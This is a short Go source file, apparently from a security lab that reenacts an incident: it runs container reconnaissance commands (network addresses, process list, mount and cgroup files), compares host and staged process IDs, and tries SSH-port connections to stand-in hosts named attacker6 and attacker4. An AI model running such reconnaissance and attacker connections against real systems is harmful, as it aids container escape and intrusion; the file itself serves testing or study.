package main

import "fmt"

// play lets the incident happen.
func (l *lab) play() {
	fmt.Println(l.command("ip", "addr").run())
	fmt.Println(l.command("ps", "-ef").run())
	fmt.Println(l.command("cat", "/proc/self/mountinfo", "/proc/self/cgroup").run())
	fmt.Println(l.hostPID(1), l.stagePID(1))
	c, err := dial(attacker6, 22, 1000000000)
	fmt.Println(c, err)
	c, err = dial(attacker4, 22, 1000000000)
	fmt.Println(c, err)
}
